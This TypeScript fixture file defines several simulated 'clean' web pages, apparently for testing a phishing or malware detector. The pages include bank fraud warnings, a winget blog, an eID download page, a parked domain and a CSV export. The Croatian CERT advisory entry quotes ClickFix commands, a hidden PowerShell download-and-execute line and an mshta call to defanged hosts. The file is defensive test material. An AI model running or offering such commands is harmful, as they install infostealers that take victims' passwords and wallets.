import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, cookieBar, gtm, flag } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, cssRoute, fileRoute, pe, cfb, zip } from '../parts/e-bin.js';

const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

export const entries: Entry[] = [
(() => {
  const host = 'www.bancatransilvania.ro';
  const css = `${baseCss}body{font-family:"Open Sans",Arial,sans-serif;color:#001e50}.hd{background:#fff;padding:16px 36px;display:flex;align-items:center;box-shadow:0 1px 4px rgba(0,0,0,.06)}.w{max-width:820px;margin:26px auto;padding:0 18px}
.ex{background:#fff8e1;border-left:4px solid #ffb300;padding:12px 16px;margin:10px 0;font-family:monospace;font-size:14px}.tip{background:#eef4ff;border-radius:10px;padding:16px}`;
  const body = `<div class="hd">${wordmark('Banca Transilvania', '#001e50', { mark: 'square', width: 210 })}<span style="margin-left:auto;font-size:14px">*8028 · 0264 308 028</span></div>
<div class="w"><h1>Atenție la fraude: cum te protejezi</h1><p>Primim zilnic semnalări despre mesaje false care folosesc numele BT, OLX, FAN Courier sau ANAF. Iată câteva exemple reale raportate de clienți:</p>
<div class="ex">BT: Accesul in NeoBT a fost suspendat temporar. Reconfirmati datele aici: neobt-securizare.ro-autentificare.com</div>
<div class="ex">OLX: Cumparatorul a achitat comanda prin Livrare OLX. Primeste banii: olx-ro.livrare-sigura.online/anunt/4417</div>
<div class="ex">ANAF: Aveti de primit o rambursare de 1.284 lei. Completati datele cardului pana la 31.03.</div>
<h2>Ce să reții</h2><ul><li>BT nu îți cere niciodată prin SMS, e-mail sau telefon datele de card, PIN-ul, parola sau codurile primite.</li><li>Pentru a <b>primi</b> bani nu trebuie să introduci CVV-ul sau soldul cardului.</li><li>Intră în NeoBT doar tastând manual neo.bancatransilvania.ro sau din aplicație.</li></ul>
<div class="tip">Ai introdus datele cardului pe un site suspect? Blochează cardul din BT Pay și sună-ne la 0264 308 028.</div></div>`;
  return {
    id: 'yd-clean-bt-ro-fraud-awareness', label: 'clean', kind: 'bank-security-advice',
    url: `https://${host}/siguranta/atentie-la-fraude`,
    body: page({ lang: 'ro', title: 'Atenție la fraude | Banca Transilvania', css, body }),
  } satisfies Entry;
})(),

(() => {
  const host = 'www.cert.hr';
  const quoted = `powershell -w h -nop -c "iex(iwr -useb 'https://wp-cdn-jquery[.]com/v/verify.ps1')" # ✅ Nisam robot – ID: 7714-2290`;
  const quoted2 = `mshta.exe https://hu-files[.]net/view/doc.hta # Word Online – bővítmény telepítése`;
  const css = `${baseCss}body{font-family:Arial,sans-serif;color:#222;background:#fff}.hd{background:#003366;color:#fff;padding:16px 34px;display:flex;align-items:center;gap:10px}.w{max-width:860px;margin:26px auto;padding:0 18px}
pre{background:#f4f4f4;border:1px solid #ddd;border-radius:4px;padding:12px;overflow-x:auto;font-size:13px}.ioc td{font-family:monospace;font-size:13px;padding:4px 10px 4px 0}`;
  const body = `<div class="hd"><b>CERT.hr</b><span>Nacionalni CERT · CARNET</span></div>
<div class="w"><p style="font-size:13px;color:#666">Upozorenje · NCERT-2025-03-112</p><h1>ClickFix: lažne CAPTCHA provjere na kompromitiranim hrvatskim web-trgovinama</h1>
<p>Nacionalni CERT zaprimio je više prijava kompromitiranih web-stranica malih obrta na kojima se posjetiteljima prikazuje lažna provjera „Nisam robot“. Klikom na potvrdni okvir skripta u međuspremnik kopira naredbu i traži od korisnika da pritisne <b>Windows + R</b>, zatim <b>Ctrl + V</b> i <b>Enter</b>.</p>
<p>Primjer kopirane naredbe (domene su onesposobljene):</p><pre>${esc(quoted)}</pre>
<p>Zabilježena je i varijanta koja se predstavlja kao pogreška u Word Online dokumentu:</p><pre>${esc(quoted2)}</pre>
<p>Pokretanjem naredbe preuzima se i izvršava infostealer (Lumma/StealC) koji krade spremljene lozinke, kolačiće i podatke kripto novčanika.</p>
<h2>Pokazatelji kompromitacije</h2><table class="ioc"><tr><td>wp-cdn-jquery[.]com</td><td>poslužitelj skripte</td></tr><tr><td>dalm-img-cdn[.]com</td><td>preuzimanje .cmd datoteke</td></tr><tr><td>static-fonts-bg[.]com</td><td>lažna pogreška fonta</td></tr></table>
<h2>Preporuke</h2><ul><li>Nijedna legitimna CAPTCHA ne traži pokretanje naredbi.</li><li>Administratorima: provjerite integritet WordPress datoteka i dodataka.</li><li>Organizacijama: razmotrite blokiranje dijaloga Pokreni (Win+R) putem GPO-a.</li></ul></div>`;
  return {
    id: 'yd-clean-cert-hr-clickfix-advisory', label: 'clean', kind: 'security-blog-quoting-commands',
    url: `https://${host}/clickfix-lazne-captcha-provjere/`,
    body: page({ lang: 'hr', title: 'ClickFix: lažne CAPTCHA provjere | CERT.hr', css, body }),
  } satisfies Entry;
})(),

(() => {
  const host = 'rendszergazda-jegyzetek.hu';
  const cmds = ['winget upgrade --all --include-unknown', 'winget install -e --id Mozilla.Firefox.hu', 'winget install -e --id 7zip.7zip', 'winget export -o C:\\Backup\\alkalmazasok.json', 'Get-AppxPackage *xbox* | Remove-AppxPackage'];
  const pres = cmds.map((c, i) => `<div class="cb"><pre id="p${i}">${esc(c)}</pre><button class="cp" data-t="p${i}" title="Másolás">⧉</button></div>`).join('\n');
  const css = `${baseCss}body{font-family:Georgia,serif;background:#fdfdfb;color:#222}.hd{border-bottom:1px solid #ddd;padding:18px 30px}.hd b{font-size:24px}.w{max-width:760px;margin:26px auto;padding:0 18px}
.cb{position:relative}.cb pre{background:#272822;color:#f8f8f2;padding:12px 48px 12px 12px;border-radius:4px;font-size:13px;overflow-x:auto}.cp{position:absolute;right:8px;top:8px;background:#444;color:#fff;border:0;border-radius:3px;padding:3px 8px;cursor:pointer}
.cm{border-top:1px solid #eee;padding:10px 0;font-family:Arial;font-size:14px}`;
  const body = `<div class="hd"><b>Rendszergazda jegyzetek</b><br><small>Windows, hálózat, szkriptek – egy üzemeltető naplója</small></div>
<div class="w"><h1>Winget a gyakorlatban: alkalmazások frissítése egy paranccsal</h1><p style="color:#777;font-size:14px">2025. március 9. · Windows, PowerShell</p>
<p>A Windows Package Manager (winget) ma már minden Windows 11 gépen elérhető. Kisirodai környezetben rengeteg időt spórolhatunk vele. Íme a leggyakrabban használt parancsaim:</p>
${pres}
<p>Fontos: a parancsokat mindig értsük meg, mielőtt futtatjuk őket. Ha egy weboldal azt kéri, hogy „igazolja, hogy nem robot” és nyomja meg a Win+R-t, majd illesszen be valamit – az csalás.</p>
<h3>Hozzászólások</h3><div class="cm"><b>Tamás</b>: A --include-unknown kapcsolót nem ismertem, köszi!</div><div class="cm"><b>Réka</b>: Intune-ból is lehet ezt ütemezni?</div></div>`;
  const js = `<script>document.querySelectorAll('.cp').forEach(function(b){b.onclick=function(){navigator.clipboard.writeText(document.getElementById(b.dataset.t).textContent).then(function(){b.textContent='✓';setTimeout(function(){b.textContent='⧉'},1200)})}})</script>`;
  return {
    id: 'yd-clean-hu-sysadmin-winget-blog', label: 'clean', kind: 'it-blog-commands',
    url: `https://${host}/2025/03/winget-a-gyakorlatban/`,
    body: page({ lang: 'hu', title: 'Winget a gyakorlatban – Rendszergazda jegyzetek', css, body, scripts: js }),
  } satisfies Entry;
})(),

(() => {
  const host = 'ca.mup.gov.rs';
  const msi = cfb(['Ministarstvo unutrasnjih poslova Republike Srbije', 'Celik eID middleware', 'ProductVersion 2.3.1', 'PKCS#11 module', 'Windows Installer'], 16384);
  const css = `${baseCss}body{font-family:Arial,sans-serif;color:#222;background:#f7f7f7}.hd{background:#0c4076;color:#fff;padding:14px 30px;display:flex;align-items:center;gap:12px}.w{max-width:820px;margin:24px auto;background:#fff;padding:28px;border:1px solid #ddd}
table{width:100%;border-collapse:collapse;font-size:14px}td,th{border-bottom:1px solid #eee;padding:8px;text-align:left}a.d{color:#0c4076;font-weight:700}`;
  const body = `<div class="hd">${flag(['#c6363c', '#0c4076', '#fff'])}<b>Министарство унутрашњих послова · Сертификационо тело</b></div>
<div class="w"><h1 style="font-size:24px">Софтвер за електронску личну карту</h1><p>За коришћење квалификованог електронског сертификата са личне карте потребно је инсталирати middleware и апликацију Челик за читање података.</p>
<table><tr><th>Програм</th><th>Платформа</th><th>Верзија</th><th></th></tr>
<tr><td>eID middleware (PKCS#11)</td><td>Windows 10/11, 64-bit</td><td>2.3.1</td><td><a class="d" href="/download/eid-middleware-2.3.1-x64.msi">Преузми</a></td></tr>
<tr><td>Челик – читач личне карте</td><td>Windows</td><td>1.3.5</td><td><a class="d" href="/download/celik-1.3.5.msi">Преузми</a></td></tr>
<tr><td>eID middleware</td><td>macOS 12+</td><td>2.3.0</td><td><a class="d" href="/download/eid-middleware-2.3.0.pkg">Преузми</a></td></tr></table>
<p style="font-size:13px;color:#555">Корисничка подршка: ca@mup.gov.rs · Упутство за инсталацију (PDF)</p></div>`;
  return {
    id: 'yd-clean-mup-rs-eid-middleware-download', label: 'clean', kind: 'software-download-official',
    url: `https://${host}/sr/softver-za-licnu-kartu`,
    body: page({ lang: 'sr-Cyrl', title: 'Софтвер за електронску личну карту – МУП', css, body }),
    routes: { [`${host}/download/eid-middleware-2.3.1-x64.msi`]: fileRoute(msi, 'application/x-msi', 'eid-middleware-2.3.1-x64.msi') },
  } satisfies Entry;
})(),

(() => {
  const host = 'hotely-tatry.sk';
  const links = ['Hotely Vysoké Tatry', 'Ubytovanie Štrbské Pleso', 'Lacné dovolenky Slovensko', 'Wellness pobyty', 'Chaty na prenájom', 'Last minute zájazdy'];
  const css = `${baseCss}body{font-family:Arial,sans-serif;background:#f7f7f7;color:#333}.w{max-width:760px;margin:40px auto;text-align:center;padding:0 16px}.d{font-size:34px;font-weight:700;color:#1f4e79}
.sale{background:#fff;border:1px solid #ddd;border-radius:8px;padding:20px;margin:20px 0}.sale a{display:inline-block;background:#2e7d32;color:#fff;padding:10px 22px;border-radius:4px;text-decoration:none;font-weight:700}
.rl{background:#fff;border:1px solid #ddd;border-radius:8px;padding:16px;text-align:left}.rl a{display:block;color:#1a0dab;padding:6px 0;font-size:17px}.f{font-size:12px;color:#888;margin-top:30px}`;
  const body = `<div class="w"><div class="d">hotely-tatry.sk</div><div class="sale"><p>Táto doména je na predaj!</p><a href="https://www.sedo.com/search/details/?domain=hotely-tatry.sk">Kúpiť doménu</a></div>
<div class="rl"><b>Súvisiace vyhľadávania</b>${links.map((l) => `<a href="/lander?q=${encodeURIComponent(l)}">${l} ›</a>`).join('')}</div>
<p class="f">Táto stránka je poskytovaná vlastníkom domény. Registrátor nezodpovedá za obsah. © 2025 · Ochrana súkromia</p></div>`;
  return {
    id: 'yd-clean-sk-parked-domain-for-sale', label: 'clean', kind: 'parked-domain',
    url: `https://${host}/`,
    body: page({ lang: 'sk', title: 'hotely-tatry.sk – doména je na predaj', css, body }),
  } satisfies Entry;
})(),

(() => {
  const host = 'internetbank.mbhbank.hu';
  const css = `${baseCss}body{background:#f4f6f8;font-family:Arial,sans-serif;color:#1c2733}.hd{background:#002a5c;color:#fff;padding:14px 30px;display:flex;align-items:center}.w{max-width:960px;margin:22px auto;background:#fff;border-radius:8px;padding:24px}
table{width:100%;border-collapse:collapse;font-size:14px}td,th{padding:8px;border-bottom:1px solid #eef;text-align:left}td.n{text-align:right;font-variant-numeric:tabular-nums}.neg{color:#b00020}.b{background:#002a5c;color:#fff;border:0;border-radius:4px;padding:9px 16px;margin-right:8px}`;
  const rows: Array<[string, string, string]> = [['2025.03.14', 'SPAR 1234 BUDAPEST', '-8 412'], ['2025.03.13', 'Fizetés – ACME Kft.', '612 000'], ['2025.03.12', 'MVM Next csoportos beszedés', '-18 233'], ['2025.03.10', 'BKK Bérlet', '-8 950']];
  const body = `<div class="hd"><b>MBH Bank · Internetbank</b><span style="margin-left:auto;font-size:13px">Szabó Gergely · Kijelentkezés</span></div>
<div class="w"><h2 style="margin-top:0">Számlatörténet – 11773016-02458817</h2><p><button class="b" id="csv">Exportálás CSV-be</button><button class="b" id="pr" onclick="window.print()">Nyomtatás</button></p>
<table id="t"><thead><tr><th>Dátum</th><th>Közlemény</th><th style="text-align:right">Összeg (Ft)</th></tr></thead><tbody>${rows.map(([d, k, a]) => `<tr><td>${d}</td><td>${k}</td><td class="n${a.startsWith('-') ? ' neg' : ''}">${a}</td></tr>`).join('')}</tbody></table></div>`;
  const js = `<script>
document.getElementById('csv').addEventListener('click',function(){var lines=[['Datum','Kozlemeny','Osszeg']];document.querySelectorAll('#t tbody tr').forEach(function(tr){lines.push(Array.from(tr.children).map(function(td){return td.textContent.replace(/\\s/g,'')}))});
var csv='\\ufeff'+lines.map(function(l){return l.map(function(v){return '"'+v.replace(/"/g,'""')+'"'}).join(';')}).join('\\r\\n');var blob=new Blob([csv],{type:'text/csv;charset=utf-8'});var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download='szamlatortenet_2025-03.csv';document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href);a.remove()},500)});
</script>`;
  return {
    id: 'yd-clean-hu-bank-statement-csv-blob-export', label: 'clean', kind: 'blob-download-legit',
    url: `https://${host}/ib/szamlatortenet`,
    body: page({ lang: 'hu', title: 'Számlatörténet – MBH Internetbank', css, body, scripts: js }),
    headers: { 'strict-transport-security': 'max-age=31536000', 'x-frame-options': 'DENY' },
  } satisfies Entry;
})(),
];
